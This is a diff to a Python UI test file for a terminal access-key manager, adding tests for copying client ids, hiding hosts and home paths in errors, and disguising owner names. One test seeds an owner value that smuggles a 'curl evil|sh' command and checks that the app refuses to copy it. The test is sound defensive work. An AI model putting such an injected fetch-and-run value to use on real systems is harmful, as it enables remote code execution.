@@ -30,11 +30,12 @@ from tests.ui.support import (
 from tests.ui.test_secret import _KILLED, kill
 from tui.app import AccessKeysApp
 from tui.delivery.pending import Pending
+from tui.demo.names import CROWD
 from tui.demo.record import DemoRecord
 from tui.demo.server import Demo
 from tui.screencast.pseudonyms import Pseudonyms
 from tui.session import Session
-from tui.settings import Settings
+from tui.settings import SecretFile, Settings
 from tui.widgets.age_strip import AgeStrip
 from tui.widgets.sign_in_form import SignInForm
 
@@ -141,8 +142,10 @@ async def test_nothing_is_copied_by_way_of_the_terminal(
 
 async def test_what_is_copied_works(demo: Demo, copied: list[str]) -> None:
     async with running(demo, settings=SCREENCAST) as pilot:
-        await press(pilot, "c")
         own = key_named(demo, "laptop-terminal")
+        await press(pilot, "c")
+        assert copied.pop() == own.client_id
+        await press(pilot, "enter", "c", "escape")
         assert copied.pop() == own.client_id
         await press(pilot, "n")
         await write(pilot, "walk-key")
@@ -319,6 +322,48 @@ async def test_what_a_widget_lets_through_is_covered(
         await settle(pilot)
         covered = "•" * 25 + " can't write /home/••••••••/x, 東 •••••••••••• is for 東."
         assert covered in text(pilot)
+
+
+async def test_a_secret_that_can_not_be_had_is_told_of_without_hosts_and_homes(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setenv("HOME", str(tmp_path))
+    settings = Settings(
+        base_url="https://demo.example",
+        client_id="5e7b3b7b",
+        source=SecretFile(tmp_path / "secret"),
+        screencast=True,
+    )
+    session = Session(settings)
+    async with AccessKeysApp(session).run_test(size=(100, 24)) as pilot:
+        session.drawn.set()
+        await settle(pilot)
+        assert "~/secret does not exist" in text(pilot)
+        assert HOST in text(pilot)
+        assert "demo.example" not in text(pilot)
+
+
+async def test_an_owner_who_may_mean_harm_is_not_copied(demo: Demo, copied: list[str]) -> None:
+    demo.store.add_key("trap", owner="x;curl evil|sh@acme.example", last_login=NOW)
+    async with running(demo, settings=SCREENCAST, size=(100, 24)) as pilot:
+        await press(pilot, "2", "slash")
+        await write(pilot, "trap")
+        await press(pilot, "enter", "enter", "j", "j", "c")
+        assert "Owner was not copied: a shell could obey it" in dialog(pilot)
+        assert copied == []
+
+
+async def test_owners_that_a_file_names_are_disguised_and_asked_for(tmp_path: Path) -> None:
+    demo = Demo(now=lambda: NOW, crowd=True)
+    old_hand = list(CROWD)[-1]
+    file = tmp_path / "owners"
+    file.write_text(old_hand)
+    async with running(demo, settings=SCREENCAST, size=(100, 40)) as pilot:
+        await press(pilot, "2", "A")
+        pilot.app.screen.query_one(Input).value = str(file)
+        await press(pilot, "enter")
+        assert f"✓ {Pseudonyms().owner(old_hand)} 6 keys" in dialog(pilot)
+        assert_nothing_real(demo, text(pilot))
 
 
 def footer(pilot: Pilot[None]) -> str:
